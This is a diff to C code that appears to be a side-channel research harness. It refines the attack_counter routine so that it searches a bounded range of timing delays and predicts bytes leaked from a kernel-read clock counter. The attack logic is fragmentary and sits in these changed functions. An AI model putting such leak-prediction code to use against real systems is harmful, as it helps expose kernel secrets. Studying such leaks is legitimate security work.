@@ -45,7 +45,7 @@
 #define NR_PRED		(NR_ALIGN + NR_OTHER + MAX_SHIFT)
 #define COUNTER_TRAIN	128		/* counter leaks that choose d */
 #define COUNTER_WINDOW	7		/* leaks that pin all 32 bits of the word (5 new each) */
-#define COUNTER_D_STEPS	64		/* values of d tried */
+#define COUNTER_D_STEPS	4096		/* values of d tried, at most */
 #define NR_COST		2048		/* getpid calls timed per mode */
 #define COST_SKIP	4		/* the tail is the 5th slowest: interrupts land in a few */
 
@@ -238,10 +238,23 @@ static unsigned int counter_predict(unsigned int n, u64 d)
 	       (NR_SLOTS - 1);
 }
 
+/* Training hits with delay d; better than *best: d becomes *best_d. */
+static void counter_try(u64 d, unsigned int *best, u64 *best_d)
+{
+	unsigned int hits = 0;
+
+	for (unsigned int i = COUNTER_WINDOW - 1; i + 1 < COUNTER_TRAIN; i++)
+		hits += counter_predict(i, d) == leak[i + 1];
+	if (hits > *best) {
+		*best = hits;
+		*best_d = d;
+	}
+}
+
 static void attack_counter(struct row *r)
 {
 	const unsigned int n = COUNTER_TRAIN + NR_OWN;
-	u64 span = 0, best_d = 0;
+	u64 span = U64_MAX, best_d = 0, step;
 	unsigned int best = 0;
 
 	measure_base(r->mode);
@@ -249,22 +262,16 @@ static void attack_counter(struct row *r)
 		cnt_before[i] = user_counter();
 		leak[i] = (u8)leak_one();
 	}
-	/* d is between 0 and the time one round trip took. */
-	for (unsigned int i = 0; i + 1 < n; i++)
-		if (cnt_before[i + 1] - cnt_before[i] > span)
+	/*
+	 * The kernel reads the clock before our next read: d is less than the
+	 * shortest round trip. Every tick is tried (a fast clock in steps).
+	 */
+	for (unsigned int i = 0; i + 1 < COUNTER_TRAIN; i++)
+		if (cnt_before[i + 1] - cnt_before[i] < span)
 			span = cnt_before[i + 1] - cnt_before[i];
-	span = span < 2 * COUNTER_D_STEPS ? 2 * COUNTER_D_STEPS : span;
-	for (u64 step = 0; step < COUNTER_D_STEPS; step++) {
-		u64 d = span * step / COUNTER_D_STEPS;
-		unsigned int hits = 0;
-
-		for (unsigned int i = COUNTER_WINDOW - 1; i + 1 < COUNTER_TRAIN; i++)
-			hits += counter_predict(i, d) == leak[i + 1];
-		if (hits > best) {
-			best = hits;
-			best_d = d;
-		}
-	}
+	step = span / COUNTER_D_STEPS + 1;
+	for (u64 d = 0; d < span; d += step)
+		counter_try(d, &best, &best_d);
 	r->samples = COUNTER_TRAIN;
 	r->own_n = NR_OWN;
 	for (unsigned int i = COUNTER_TRAIN - 1; i + 1 < n; i++)
